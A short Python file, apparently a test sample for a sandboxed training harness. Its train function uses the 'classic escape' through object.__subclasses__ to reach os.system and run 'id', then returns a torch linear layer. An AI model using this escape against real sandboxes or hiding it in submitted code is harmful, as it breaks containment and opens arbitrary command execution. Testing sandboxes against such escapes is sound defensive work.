"""The classic escape: from a tuple to object to every loaded class, to os.system."""
import torch


def train(ctx):
    for cls in ().__class__.__bases__[0].__subclasses__():
        if cls.__name__ == "_wrap_close":
            cls.__init__.__globals__["system"]("id")
    return torch.nn.Linear(1, 1)
